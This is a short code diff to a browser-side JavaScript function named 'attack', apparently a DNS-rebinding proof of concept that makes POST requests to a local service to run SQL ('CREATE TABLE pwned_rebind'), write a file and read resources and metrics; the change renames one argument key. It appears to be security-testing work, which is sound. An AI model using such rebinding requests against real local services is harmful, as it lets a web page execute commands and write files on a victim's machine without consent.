@@ -126,7 +126,7 @@ window.attack = async () => {
   await call("invoke", "/v1/resources/sqlite.db/invoke", {method: "POST", headers: {"Content-Type": "application/json"},
     body: JSON.stringify({operation: "exec", args: {sql: "CREATE TABLE pwned_rebind(y)"}})});
   await call("stream", "/v1/resources/localfs.files/stream/put", {method: "POST",
-    headers: {"Content-Type": "application/octet-stream", "Nebula-Args": JSON.stringify({path: "pwned_rebind.txt"})}, body: "x"});
+    headers: {"Content-Type": "application/octet-stream", "Nebula-Args": JSON.stringify({key: "pwned_rebind.txt"})}, body: "x"});
   await call("resources", "/v1/resources", {});
   await call("metrics", "/metrics", {});
   return JSON.stringify(out);
